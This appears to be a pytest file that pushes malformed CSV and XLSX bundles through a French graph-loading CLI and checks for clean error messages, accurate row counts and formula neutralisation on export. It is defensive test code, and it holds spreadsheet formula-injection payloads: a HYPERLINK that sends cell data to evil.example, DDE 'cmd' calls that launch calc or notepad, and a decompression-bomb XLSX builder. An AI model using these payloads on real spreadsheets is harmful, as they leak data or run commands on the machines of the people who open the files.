"""Bad input, clear errors, nothing lost: a corpus of broken bundles through `maillage load`.

Every case is built here from a table (so that each is readable next to what it
expects) and written under the test's temporary folder; the few binary ones
(XLSX, zip, garbage) are built with a fixed seed. For each case, through the
real command line on the real engine:

* no traceback: the command ends with exit code 0 (rows rejected, the rest
  loaded) or 1 (the input cannot be read at all, one ``Error:`` line);
* the message names the file, and for a rejected row its row, column and reason;
* ``read == loaded + rejected`` on the final summary line, and the graph holds
  exactly the loaded rows (nothing lost, nothing half-written).

A hypothesis fuzz test checks the same contract on the reader and validator
directly, and the last tests check that CSV exports neutralise formulas.
"""

from __future__ import annotations

import io
import itertools
import random
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner

from app.cli import main
from test_reliability_common import mini_territories, store_of, summary

_graphs = itertools.count()

S_HEAD = "id,name,legal_form,functions,employees,founded,description,extra_labels,sources\n"
OK_S = "structure:ok,Structure OK,association,information,3,2004,,,source:t\n"
REJECTED = re.compile(r"^rejeté : (?P<file>[^,]+), ligne (?P<row>\d+)(?:, colonne (?P<col>[^:]+))? : (?P<why>.+)$")


@dataclass
class Case:
    id: str
    files: dict = field(default_factory=dict)   # name -> str (UTF-8) | bytes | callable(path)
    expect: tuple[str, ...] = ()                 # fragments of the output
    code: int = 0
    loaded: int | None = None                    # rows loaded, when the case pins it
    path: str = ""                               # load this file of the bundle instead of the folder
    xfail: str = ""                              # a known bug: strict xfail with this reason
    check: object = None                         # check(store) after the load


def _garbage(seed: int, n: int, nul: bool) -> bytes:
    rng = random.Random(seed)
    low = 0 if nul else 1
    return bytes(rng.randint(low, 255) for _ in range(n))


def _xlsx(sheets: dict[str, list[list]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _xlsx_bomb(uncompressed: int = 40 * 1024**2) -> bytes:
    """A valid XLSX whose one sheet inflates from ~40 KB to ``uncompressed`` bytes."""
    good = zipfile.ZipFile(io.BytesIO(_xlsx({"structures": [["id", "name"], ["structure:a", "A"]]})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in good.infolist():
            data = good.read(info.filename)
            if info.filename.endswith("sheet1.xml"):
                head, tail = data.split(b"<sheetData>", 1)
                with z.open(info.filename, "w", force_zip64=True) as fh:
                    fh.write(head + b"<sheetData>")
                    chunk = b" " * 1024**2
                    for _ in range(uncompressed // len(chunk)):
                        fh.write(chunk)
                    fh.write(tail)
            else:
                z.writestr(info, data)
    return out.getvalue()


def _sparse(size: int):
    def make(path: Path) -> None:
        with open(path, "wb") as fh:
            fh.truncate(size)
    return make


def _name_is(node_id: str, name: str):
    def check(store):
        df = store.run("MATCH (s {id: $id}) RETURN s.name AS name", {"id": node_id})
        assert df["name"].tolist() == [name]
    return check


def _no_personal_data(store):
    df = store.run("MATCH (s:Structure) RETURN s.id AS id, s.description AS d, keys(s) AS k ORDER BY id")
    for row in df.to_dict("records"):
        assert not any(k in ("email", "telephone", "contact") for k in row["k"]), row
        assert "@" not in str(row["d"]) and "06 12" not in str(row["d"]), row


REL_HEAD = "source_id,type,target_id,role,kind,since,amount_eur,sources\n"
TWO = "id,name\nstructure:a,A\nstructure:b,B\n"

CASES = [
    # --- empty and unreadable files -------------------------------------------------------
    Case("empty_file", {"structures.csv": b""}, ("structures.csv : fichier vide", "0 lignes lues"), loaded=0),
    Case("whitespace_only", {"structures.csv": "  \n\n \t \n"}, ("structures.csv : fichier vide",), loaded=0),
    Case("bom_only", {"structures.csv": b"\xef\xbb\xbf"}, ("structures.csv : fichier vide",), loaded=0),
    Case("header_only", {"structures.csv": S_HEAD}, ("0 lignes lues, 0 chargées, 0 rejetées",), loaded=0),
    Case("empty_folder", {}, ("aucun fichier de bundle trouvé",), code=1),
    Case("unknown_files_only", {"membres.csv": "a,b\n1,2\n", "notes.txt": "x"},
         ("aucun fichier de bundle trouvé",), code=1),
    Case("binary_garbage_with_nul", {"structures.csv": _garbage(1, 20_000, nul=True)},
         ("structures.csv : fichier binaire",), code=1),
    Case("binary_garbage_without_nul", {"structures.csv": _garbage(2, 20_000, nul=False)},
         ("structures.csv : encodage",)),
    Case("png_named_csv", {"relations.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(100)},
         ("relations.csv : fichier binaire",), code=1),
    Case("utf16_with_bom", {"structures.csv": TWO.encode("utf-16")}, ("structures.csv", "UTF-16"), code=1),
    Case("utf16_without_bom", {"structures.csv": TWO.encode("utf-16-le")}, ("structures.csv", "UTF-16"), code=1),
    Case("zip_instead_of_bundle", {"bundle.zip": b"PK\x03\x04" + bytes(60)}, ("bundle.zip : ni un dossier",),
         code=1, path="bundle.zip"),
    Case("not_a_bundle_file", {"export.txt": "id,name\n"}, ("export.txt : ni un dossier",), code=1,
         path="export.txt"),
    Case("file_over_size_limit", {"structures.csv": _sparse(2 * 1024**3 + 1)},
         ("structures.csv : fichier trop gros",), code=1),
    Case("xlsx_not_a_zip", {"bundle.xlsx": b"id,name\nstructure:a,A\n"}, ("bundle.xlsx : classeur XLSX illisible",),
         code=1, path="bundle.xlsx"),
    Case("xlsx_truncated", {"bundle.xlsx": _xlsx({"structures": [["id", "name"], ["structure:a", "A"]]})[:700]},
         ("bundle.xlsx : classeur XLSX illisible",), code=1, path="bundle.xlsx"),
    Case("xlsx_bomb", {"bundle.xlsx": _xlsx_bomb()}, ("bundle.xlsx", "décompress"), code=1, path="bundle.xlsx"),
    Case("directory_named_like_a_file", {"structures.csv/readme": "x", "networks.csv": "id,name\nnetwork:n,N\n"},
         ("structures.csv",), loaded=1),
    # --- encodings, BOMs, separators, line ends -----------------------------------------------
    Case("cp1252_semicolons", {"structures.csv": "id;name;legal_form\nstructure:e;Équipe œuvre;association\n".encode("cp1252")},
         ("encodage cp1252 détecté",), loaded=1, check=_name_is("structure:e", "Équipe œuvre")),
    Case("latin1_only_bytes", {"structures.csv": b"id,name\nstructure:l,Caf\xe9 \x81\n"},
         ("encodage latin-1 détecté",), loaded=1, check=_name_is("structure:l", "Café \x81")),
    Case("utf8_bom", {"structures.csv": b"\xef\xbb\xbf" + TWO.encode()}, (), loaded=2),
    Case("double_bom", {"structures.csv": ("\ufeff\ufeff" + TWO).encode()}, (), loaded=2),
    Case("bom_in_relations", {"structures.csv": TWO,
                              "relations.csv": ("\ufeff" + REL_HEAD + "structure:a,LOCATED_IN,commune:44109,,,,,\n").encode()},
         (), loaded=3),
    Case("utf8_truncated_mid_character", {"structures.csv": ("id,name\nstructure:e,Équipe\nstructure:f,É").encode()[:-1]},
         ("structures.csv",), check=_name_is("structure:e", "Équipe")),
    Case("mixed_separators", {"structures.csv": "id,name,legal_form\nstructure:a;A;association\nstructure:b,B,scop\n"},
         ("structures.csv, ligne 2 : 1 cellules au lieu de 3",), loaded=1),
    Case("tab_separated", {"structures.csv": "id\tname\nstructure:a\tA\n"}, (), loaded=1),
    Case("crlf", {"structures.csv": TWO.replace("\n", "\r\n")}, (), loaded=2),
    Case("cr_only", {"structures.csv": TWO.replace("\n", "\r")}, (), loaded=2),
    Case("truncated_in_quotes", {"structures.csv": 'id,name\nstructure:a,A\nstructure:b,"B unfinished'},
         ("structures.csv, ligne 3 : ligne illisible",), loaded=1),
    Case("truncated_row", {"structures.csv": "id,name,legal_form\nstructure:a,A,association\nstructure:b,B"},
         ("structures.csv, ligne 3 : 2 cellules au lieu de 3",), loaded=1),
    Case("stray_quote", {"structures.csv": 'id,name\nstructure:a,"A"B\nstructure:b,B\n'},
         ("structures.csv, ligne 2 : ligne illisible",), loaded=1),
    Case("blank_rows", {"structures.csv": "id,name\n\nstructure:a,A\n,\n\n"}, ("1 lignes lues, 1 chargées",), loaded=1),
    # --- columns ------------------------------------------------------------------------------------
    Case("missing_required_column", {"structures.csv": "id,legal_form\nstructure:a,association\nstructure:b,scop\n"},
         ("structures.csv, ligne 2, colonne name : colonne obligatoire « name » absente du fichier",
          "structures.csv, ligne 3, colonne name"), loaded=0),
    Case("missing_id_column", {"networks.csv": "name,kind\nN,federation\n"},
         ("networks.csv, ligne 2, colonne id : colonne obligatoire « id » absente",), loaded=0),
    Case("renamed_column", {"structures.csv": "id,nom\nstructure:a,A\n"},
         ("colonne inconnue « nom » ignorée", "structures.csv, ligne 2, colonne name : colonne obligatoire"), loaded=0),
    Case("extra_columns", {"structures.csv": "id,name,couleur\nstructure:a,A,bleu\n"},
         ("colonne inconnue « couleur » ignorée",), loaded=1),
    Case("two_thousand_columns", {"structures.csv": "id,name," + ",".join(f"c{i}" for i in range(2000))
                                  + "\nstructure:a,A," + ",".join("x" * 2000) + "\n"},
         ("colonne inconnue « c1999 » ignorée",), loaded=1),
    Case("duplicate_header", {"structures.csv": "id,name,name\nstructure:a,A,B\n"},
         ("structures.csv, ligne 1 : colonne en double : name",), code=1),
    Case("relations_without_target", {"structures.csv": TWO, "relations.csv": "source_id,type\nstructure:a,COOPERATES_WITH\n"},
         ("relations.csv, ligne 2, colonne target_id : colonne obligatoire « target_id » absente",), loaded=2),
    # --- ids ---------------------------------------------------------------------------------------------
    Case("duplicate_ids", {"structures.csv": "id,name\nstructure:a,A\nstructure:a,A bis\n"},
         ("structures.csv, ligne 3, colonne id : identifiant 'structure:a' en double",), loaded=1,
         check=_name_is("structure:a", "A")),
    Case("id_in_the_wrong_file", {"structures.csv": TWO, "networks.csv": "id,name\nstructure:a,A\n"},
         ("networks.csv, ligne 2, colonne id : identifiant 'structure:a' invalide",), loaded=2),
    Case("id_without_prefix", {"structures.csv": "id,name\necossolies,E\n"},
         ("structures.csv, ligne 2, colonne id : identifiant 'ecossolies' invalide",), loaded=0),
    Case("id_with_spaces", {"structures.csv": "id,name\nstructure:café bar,E\n"},
         ("structures.csv, ligne 2, colonne id : identifiant 'structure:café bar' invalide",), loaded=0),
    Case("missing_required_value", {"structures.csv": "id,name\nstructure:a,\n,B\n"},
         ("structures.csv, ligne 2, colonne name : valeur obligatoire manquante",
          "structures.csv, ligne 3, colonne id : valeur obligatoire manquante"), loaded=0),
    Case("phone_like_id", {"structures.csv": "id,name\nstructure:0612345678,Numérotée\n"},
         ("structures.csv, ligne 2, colonne id",), loaded=0),
    Case("email_as_required_name", {"structures.csv": "id,name\nstructure:m,contact@asso.example\n"},
         ("structures.csv, ligne 2, colonne name",), loaded=0),
    # --- relations ---------------------------------------------------------------------------------------
    Case("dangling_relation", {"structures.csv": TWO, "relations.csv": REL_HEAD + "structure:a,COOPERATES_WITH,structure:ghost,,,,,\n"},
         ("relations.csv, ligne 2, colonne target_id : 'structure:ghost' n'existe ni dans le bundle ni dans la base",),
         loaded=2),
    Case("disallowed_label_pair", {"structures.csv": TWO, "sectors.csv": "id,name\nsector:culture,Culture\n",
                                   "relations.csv": REL_HEAD + "structure:a,MEMBER_OF,sector:culture,member,,,,\n"},
         ("relations.csv, ligne 2, colonne target_id : MEMBER_OF n'accepte pas Sector en cible",), loaded=3),
    Case("disallowed_territory_source", {"structures.csv": TWO,
                                         "relations.csv": REL_HEAD + "commune:44109,COOPERATES_WITH,structure:a,,,,,\n"},
         ("relations.csv, ligne 2, colonne source_id : COOPERATES_WITH n'accepte pas Territory en source",), loaded=2),
    Case("unknown_relationship_type", {"structures.csv": TWO, "relations.csv": REL_HEAD + "structure:a,WORKS_WITH,structure:b,,,,,\n"},
         ("relations.csv, ligne 2, colonne type : valeur inconnue 'WORKS_WITH'",), loaded=2),
    Case("self_loop", {"structures.csv": TWO, "relations.csv": REL_HEAD + "structure:a,COOPERATES_WITH,structure:a,,,,,\n"},
         ("relations.csv, ligne 2, colonne target_id : une relation ne peut relier un nœud à lui-même",), loaded=2),
    Case("unknown_id_prefix", {"structures.csv": TWO, "relations.csv": REL_HEAD + "structure:a,COOPERATES_WITH,company:x,,,,,\n"},
         ("relations.csv, ligne 2, colonne target_id : id 'company:x' does not start with a known prefix",), loaded=2),
    Case("invalid_insee_code", {"structures.csv": TWO, "relations.csv": REL_HEAD + "structure:a,LOCATED_IN,commune:99999,,,,,\n"},
         ("relations.csv, ligne 2, colonne target_id : territoire 'commune:99999' inconnu du référentiel",), loaded=2),
    Case("obsolete_insee_code", {"structures.csv": TWO, "relations.csv": REL_HEAD + "structure:a,LOCATED_IN,commune:01003,,,,,\n"},
         ("relations.csv, ligne 2, colonne target_id : territoire 'commune:01003' inconnu du référentiel",), loaded=2),
    Case("malformed_insee_code", {"structures.csv": TWO,
                                  "relations.csv": REL_HEAD + "structure:a,SERVES,commune:4410,,,,,\nstructure:b,SERVES,departement:,,,,,\n"},
         ("relations.csv, ligne 2, colonne target_id : territoire 'commune:4410' inconnu",
          "relations.csv, ligne 3, colonne target_id : territoire 'departement:' inconnu"), loaded=2),
    Case("corsica_codes_are_valid", {"structures.csv": TWO, "relations.csv": REL_HEAD + "structure:a,LOCATED_IN,commune:2A004,,,,,\n"},
         (), loaded=3),
    Case("territories_file_mismatch", {"territories.csv": "id,name,level,code\ncommune:44109,Nantes,commune,44110\n"},
         ("territories.csv, ligne 2, colonne id : identifiant 'commune:44109' : attendu 'commune:44110'",), loaded=0),
    # --- values -----------------------------------------------------------------------------------------
    Case("legal_form_outside_vocabulary", {"structures.csv": S_HEAD + OK_S + "structure:c,C,sarl,,,,,,\n"},
         ("structures.csv, ligne 3, colonne legal_form : valeur inconnue 'sarl' (attendu : association",), loaded=1),
    Case("list_item_outside_vocabulary", {"structures.csv": S_HEAD + "structure:c,C,,information|magie,,,,,\n"},
         ("structures.csv, ligne 2, colonne functions : valeur inconnue 'magie'",), loaded=0),
    Case("network_level_outside_vocabulary", {"networks.csv": "id,name,kind,level\nnetwork:n,N,federation,planetaire\n"},
         ("networks.csv, ligne 2, colonne level : valeur inconnue 'planetaire'",), loaded=0),
    Case("extra_label_not_allowed", {"structures.csv": S_HEAD + "structure:c,C,,,,,,Territory,\n"},
         ("structures.csv, ligne 2, colonne extra_labels : valeur inconnue 'Territory'",), loaded=0),
    Case("relation_role_outside_vocabulary", {"structures.csv": TWO, "networks.csv": "id,name\nnetwork:n,N\n",
                                              "relations.csv": REL_HEAD + "structure:a,MEMBER_OF,network:n,chef,,,,\n"},
         ("relations.csv, ligne 2, colonne role : valeur inconnue 'chef' pour MEMBER_OF",), loaded=3),
    Case("integer_not_a_number", {"structures.csv": S_HEAD + "structure:c,C,,,beaucoup,,,,\n"},
         ("structures.csv, ligne 2, colonne employees : nombre entier attendu, pas 'beaucoup'",), loaded=0),
    Case("integer_beyond_64_bits", {"structures.csv": S_HEAD + "structure:c,C,,,99999999999999999999999,,,,\n"},
         ("structures.csv, ligne 2, colonne employees",), loaded=0),
    Case("date_in_french_format", {"structures.csv": S_HEAD + "structure:c,C,,,,12/05/2020,,,\n"},
         ("structures.csv, ligne 2, colonne founded : date AAAA, AAAA-MM ou AAAA-MM-JJ attendue",), loaded=0),
    Case("amount_with_currency", {"structures.csv": TWO, "funders.csv": "id,name\nfunder:f,F\n",
                                  "relations.csv": REL_HEAD + "structure:a,FUNDED_BY,funder:f,,,,1 000 €,\n"},
         ("relations.csv, ligne 2, colonne amount_eur : nombre attendu, pas '1 000 €'",), loaded=3),
    Case("amount_not_finite", {"structures.csv": TWO, "funders.csv": "id,name\nfunder:f,F\n",
                               "relations.csv": REL_HEAD + "structure:a,FUNDED_BY,funder:f,,,,nan,\n"
                                                           "structure:b,FUNDED_BY,funder:f,,,,1e999,\n"},
         ("relations.csv, ligne 2, colonne amount_eur", "relations.csv, ligne 3, colonne amount_eur"), loaded=3),
    Case("nul_character_in_a_cell", {"structures.csv": b"id,name\n" + b"".join(b"structure:p%d,P\n" % i for i in range(400))
                                     + b"structure:n,N\x00ul\n"},
         ("structures.csv, ligne 402, colonne name",), loaded=400),
    Case("huge_field", {"structures.csv": f"id,name\nstructure:h,{'x' * 20_000}\n{TWO.split(chr(10), 1)[1]}"},
         ("structures.csv, ligne 2, colonne name : valeur trop longue (20000 caractères, au plus 10000)",), loaded=2),
    Case("one_megabyte_field", {"structures.csv": 'id,name,description\nstructure:h,H,"' + "é" * 1_000_000 + '"\n'},
         ("structures.csv, ligne 2, colonne description : valeur trop longue (1000000 caractères",), loaded=0),
    Case("formula_injection_kept_as_text", {"structures.csv": 'id,name,description\n'
                                            'structure:f1,"=HYPERLINK(""http://evil.example/?d=""&A1,""clic"")",x\n'
                                            "structure:f2,+cmd|' /C calc'!A0,x\n"
                                            "structure:f3,@SUM(1+1),x\n"
                                            "structure:f4,-2+3,=1+1\n"},
         ("4 lignes lues, 4 chargées, 0 rejetées",), loaded=4,
         check=_name_is("structure:f1", '=HYPERLINK("http://evil.example/?d="&A1,"clic")')),
    # --- personal data ----------------------------------------------------------------------------------
    Case("personal_columns", {"structures.csv": "id,name,email,telephone,contact\nstructure:a,A,x@y.fr,0612345678,Jean Dupont\n"},
         ("colonne « email » ignorée (données personnelles)", "colonne « telephone » ignorée",
          "colonne « contact » ignorée"), loaded=1, check=_no_personal_data),
    Case("personal_data_in_description", {"structures.csv": "id,name,description\n"
                                          "structure:a,A,Écrire à jeanne.martin@asso.example\n"
                                          "structure:b,B,Appeler le 06 12 34 56 78\n"},
         ("structures.csv, ligne 2, colonne description : adresse e-mail retiré(e)",
          "structures.csv, ligne 3, colonne description : numéro de téléphone retiré(e)"), loaded=2,
         check=_no_personal_data),
    # --- XLSX ----------------------------------------------------------------------------------------------
    Case("xlsx_with_bad_rows", {"bundle.xlsx": _xlsx({
        "structures": [["id", "name", "legal_form"], ["structure:x1", "X1", "scop"], ["structure:x1", "X1 bis", "scop"],
                       ["structure:x2", "X2", "sarl"], [None, None, None], ["structure:x3", "=1+1", "cae"]],
        "relations": [["source_id", "type", "target_id"], ["structure:x1", "LOCATED_IN", "commune:99999"]],
        "feuil3": [["a"], [1]]})},
         ("bundle.xlsx:structures.csv, ligne 3, colonne id : identifiant 'structure:x1' en double",
          "bundle.xlsx:structures.csv, ligne 4, colonne legal_form : valeur inconnue 'sarl'",
          "bundle.xlsx:relations.csv, ligne 2, colonne target_id : territoire 'commune:99999'",
          "bundle.xlsx:structures.csv, ligne 6, colonne name : valeur obligatoire manquante",  # a formula, not a value
          "feuil3.csv : fichier inconnu ignoré"), loaded=1, path="bundle.xlsx"),
    Case("xlsx_without_bundle_sheets", {"bundle.xlsx": _xlsx({"Feuil1": [["id", "name"], ["structure:a", "A"]]})},
         ("aucun fichier de bundle trouvé",), code=1, path="bundle.xlsx"),
    Case("xlsx_huge_cell", {"bundle.xlsx": _xlsx({"structures": [["id", "name"], ["structure:h", "y" * 12_000]]})},
         ("bundle.xlsx:structures.csv, ligne 2, colonne name : valeur trop longue",), loaded=0, path="bundle.xlsx"),
]


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)


def _write(folder: Path, files: dict) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(content):
            content(path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")


@pytest.fixture
def mini_env(engine):
    """A graph of its own holding a few territories, and the CLI environment pointing at it."""
    name = f"reliab_in_{next(_graphs)}"
    store = store_of(engine, name)
    mini_territories(store)
    base = store.run("MATCH (n) WHERE NOT n:GraphVersion RETURN count(n) AS n").iloc[0, 0], store.run("MATCH ()-[r]->() RETURN count(r) AS n").iloc[0, 0]
    env = {"MAILLAGE_STORE": f"embedded://{engine.home}?graph={name}", "MAILLAGE_HOME": str(engine.home)}
    yield env, store, base
    store.clear()
    store.close()


def _params():
    for case in CASES:
        marks = [pytest.mark.xfail(strict=True, reason=case.xfail)] if case.xfail else []
        yield pytest.param(case, id=case.id, marks=marks)


@pytest.mark.parametrize("case", list(_params()))
def test_broken_input(case: Case, mini_env, tmp_path):
    env, store, (base_nodes, base_rels) = mini_env
    bundle = tmp_path / "bundle"
    _write(bundle, case.files)
    target = bundle / case.path if case.path else bundle
    result = CliRunner().invoke(main, ["load", str(target)], env=env)
    out = result.output
    # no traceback: only maillage's own one-line errors or a clean exit
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"{type(result.exception).__name__}: {result.exception}")
    assert "Traceback" not in out
    assert result.exit_code == case.code, out[-3000:]
    for fragment in case.expect:
        assert fragment in out, f"{fragment!r} not in:\n{out[-3000:]}"
    if result.exit_code == 1:
        errors = [line for line in out.splitlines() if line.startswith("Error: ")]
        assert len(errors) == 1, out
        assert store.run("MATCH (n) WHERE NOT n:GraphVersion RETURN count(n) AS n").iloc[0, 0] == base_nodes  # nothing written
        return
    # every rejection names file, row and reason (and the column when one is at fault)
    for line in out.splitlines():
        if line.startswith("rejeté : "):
            assert REJECTED.match(line), line
    read, loaded, rejected = summary(result.stdout)
    assert read == loaded + rejected
    if case.loaded is not None:
        assert loaded == case.loaded, out[-3000:]
    # the graph holds exactly the loaded rows: nothing lost, nothing half-written
    nodes = store.run("MATCH (n) WHERE NOT n:GraphVersion RETURN count(n) AS n").iloc[0, 0] - base_nodes
    rels = store.run("MATCH ()-[r]->() RETURN count(r) AS n").iloc[0, 0] - base_rels
    assert nodes + rels == loaded
    if case.check:
        case.check(store)


# --- property-based: the reader and validator never crash, and always account for every row ---------

from hypothesis import HealthCheck, Phase, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from graph import model  # noqa: E402
from graph.errors import InputError  # noqa: E402
from loaders.bundle import BUNDLE_FILES, read_bundle, validate  # noqa: E402
from loaders.tables import personal_data_in  # noqa: E402

_COLUMNS = sorted({c.name for f in model.NODE_FILES for c in f.columns} | {c.name for c in model.RELATION_COLUMNS})
_TOKENS = [
    "", " ", "structure:a", "structure:b", "network:n", "funder:f", "place:p", "sector:s", "event:e",
    "initiative:i", "source:x", "commune:44109", "commune:99999", "departement:44", "region:52", "epci:244400404",
    "association", "scop", "federation", "information|reseau", "emergence", "COOPERATES_WITH", "MEMBER_OF",
    "LOCATED_IN", "SERVES", "FUNDED_BY", "member", "partnership", "2004", "2004-07-01", "12/05/2020", "-3", "1e999",
    "nan", "3,5", "9" * 25, "=HYPERLINK(\"http://x\")", "@SUM(A1)", "Équipe", "œuvre", "\ufeff", "a|b||c", '"', "'",
    "\\", ";", ",", "\t", "x" * 10_001, "Structure|Funder", "Territory",
]
_PERSONAL = ["jeanne@asso.example", "06 12 34 56 78", "+33 6 12 34 56 78", "écrire à a.b@c.fr"]
#: required columns, where personal data rejects the whole row: fuzzed with it by the key-column test below
_KEY_COLUMNS = {"id", "name", "title", "source_id", "target_id", "type", "level", "code"}

_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
_cell = st.one_of(st.sampled_from(_TOKENS + _PERSONAL), _text)
_key_cell = st.one_of(st.sampled_from(_TOKENS), _text.filter(lambda s: personal_data_in(s) is None))


_FILE_COLUMNS = {f.filename: f.columns for f in model.NODE_FILES}
_FILE_COLUMNS[model.RELATIONS_FILE] = model.RELATION_COLUMNS
_IDS = [f"{p}:{k}" for p in model.ID_PREFIXES.values() for k in ("a", "b", "known")] + sorted(_TERRITORIES := {
    "commune:44109", "departement:44", "region:52", "epci:244400404"}) + ["commune:99999", "x:y", "structure:"]


def _valid(col: model.Column, filename: str):
    """Values that pass validation for ``col`` (most of the time: they may still clash)."""
    if col.name == "id" and filename in _FILE_COLUMNS and filename != model.RELATIONS_FILE:
        prefix = model.ID_PREFIXES.get(model.NODE_FILE_BY_NAME[filename].label)
        return st.sampled_from([f"{prefix}:{k}" for k in ("a", "b", "c", "known")] if prefix else _IDS)
    if col.name in ("source_id", "target_id"):
        return st.sampled_from(_IDS)
    if col.vocabulary:
        if col.type == "list":
            return st.lists(st.sampled_from(col.vocabulary), max_size=3).map("|".join)
        return st.sampled_from(col.vocabulary)
    if col.type == "integer":
        return st.integers(-10, 3000).map(str)
    if col.type == "number":
        return st.floats(-1e6, 1e6, allow_nan=False).map(str)
    if col.type == "date":
        return st.sampled_from(["2004", "2004-07", "2019-12-31"])
    if col.type == "list":
        return st.lists(st.sampled_from(["source:a", "source:b"]), max_size=2).map("|".join)
    return st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=20).filter(
        lambda s: s.strip() and personal_data_in(s) is None)


_GOOD_RELATIONS = [
    ("structure:a", "LOCATED_IN", "commune:44109"), ("structure:known", "COOPERATES_WITH", "structure:a"),
    ("structure:b", "MEMBER_OF", "network:known"), ("network:a", "SERVES", "departement:44"),
    ("structure:a", "FUNDED_BY", "funder:a"), ("event:known", "HELD_IN", "region:52"),
    ("structure:b", "COOPERATES_WITH", "structure:b"), ("structure:a", "MEMBER_OF", "sector:a"),
]


@st.composite
def _csv_file(draw, name="structures.csv", key_cells=_key_cell):
    columns = _FILE_COLUMNS.get(name, model.NODE_FILES[1].columns)
    by_name = {c.name: c for c in columns}
    required = [c.name for c in columns if c.required]
    if draw(st.integers(0, 4)):
        # mostly a plausible header: the required columns and some others, in any order
        extra = draw(st.lists(st.sampled_from([c.name for c in columns] + ["email", "telephone", "Nom"]),
                              max_size=6, unique=True))
        header = draw(st.permutations(list(dict.fromkeys(required + extra))))
    else:
        header = draw(st.lists(st.one_of(st.sampled_from(_COLUMNS + ["id "]), _text), max_size=8))

    def cell(column_name):
        col = by_name.get(column_name.strip())
        junk = key_cells if column_name.strip() in _KEY_COLUMNS else _cell
        if col is None:
            return junk
        return st.integers(0, 5).flatmap(lambda k: junk if k == 0 else _valid(col, name))

    n_rows = draw(st.integers(0, 10))
    rows = []
    ends = [header.index(c) if c in header else None for c in ("source_id", "type", "target_id")]
    for _ in range(n_rows):
        width = draw(st.sampled_from([len(header)] * 8 + [max(len(header) - 1, 0), len(header) + 1]))
        row = [draw(cell(header[i])) if i < len(header) else draw(_cell) for i in range(width)]
        if None not in ends and width == len(header) and draw(st.booleans()):
            for i, value in zip(ends, draw(st.sampled_from(_GOOD_RELATIONS))):
                row[i] = value
        rows.append(row)
    sep = draw(st.sampled_from([",", ";", "\t"]))
    quote = draw(st.booleans())

    def fmt(cells):
        if quote:
            return sep.join('"' + c.replace('"', '""') + '"' for c in cells)
        return sep.join(cells)
    text = "\n".join(fmt(r) for r in [header, *rows])
    if draw(st.integers(0, 6)) == 0:
        text = text[: draw(st.integers(0, len(text)))]  # truncated anywhere
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1"]))
    data = text.encode(encoding, errors="replace")
    if draw(st.integers(0, 19)) == 0:
        data = draw(st.binary(max_size=300))  # garbage
    return data


@st.composite
def _bundles(draw, key_cells=_key_cell, names=tuple(BUNDLE_FILES) + ("other.csv",)):
    chosen = draw(st.lists(st.sampled_from(names), min_size=1, max_size=5, unique=True))
    if model.RELATIONS_FILE in names and draw(st.booleans()):
        chosen = list(dict.fromkeys([*chosen, model.RELATIONS_FILE]))
    return {n: draw(_csv_file(n, key_cells)) for n in chosen}


_seen = {"loaded": 0, "rejected": 0, "relations": 0}


def _check_bundle(files: dict[str, bytes]) -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        for name, data in files.items():
            (Path(tmp) / name).write_bytes(data)
        try:
            tables = read_bundle(tmp)
        except InputError:
            return
        bundle, report = validate(tables, known_ids=lambda label, ids: {i for i in ids if i.endswith(":known")},
                                  territory_exists=_TERRITORIES.__contains__)
    assert report.read == report.loaded + report.rejected_rows
    assert report.loaded == bundle.node_count + bundle.relation_count
    _seen["loaded"] += report.loaded
    _seen["rejected"] += report.rejected_rows
    _seen["relations"] += bundle.relation_count
    for r in report.rejected:
        assert r.file and r.reason and (r.row is None or r.row >= 2)
    for label, rows in bundle.nodes.items():
        spec = model.NODE_FILE_BY_LABEL[label]
        for row in rows:
            assert model.label_for_id(row["id"]) == label
            for col in spec.columns:
                if col.required and col.name != "id":
                    assert row["props"].get(col.name) not in (None, ""), (label, col.name, row)
    for (src, rtype, dst), rows in bundle.relations.items():
        allowed_src, allowed_dst, _ = model.RELATIONSHIPS[rtype]
        assert src in allowed_src and dst in allowed_dst
        for row in rows:
            assert row["source_id"] != row["target_id"]


# derandomize: the same 300 examples every run, so that the check below cannot flake
# (random runs loaded 7 to 32 relations, and once none)
@settings(max_examples=300, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(_bundles())
def test_fuzz_reader_and_validator_account_for_every_row(files):
    _check_bundle(files)


def test_fuzz_reached_every_outcome():
    """The fuzz above is not vacuous: it loaded rows, relations and rejected rows."""
    if not _seen["loaded"]:
        pytest.skip("run with the fuzz test")
    assert _seen["loaded"] > 0 and _seen["rejected"] > 0 and _seen["relations"] > 0, _seen


_PERSONAL_KEYS = st.sampled_from(["structure:a", "structure:b", "A", "commune:44109", "COOPERATES_WITH",
                                  "structure:0612345678", "contact@asso.example", "commune:0612345678"])


@settings(max_examples=300, deadline=None, phases=[Phase.generate], database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(_bundles(key_cells=_PERSONAL_KEYS, names=("structures.csv", "relations.csv")))
def test_fuzz_personal_data_in_key_columns(files):
    _check_bundle(files)


# --- exports neutralise formulas ------------------------------------------------------------------

import csv as _csv  # noqa: E402

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "=1+1", "=cmd|' /C notepad'!'A1'"]
_TRIGGER = re.compile(r"^[=+\-@\t\r]")
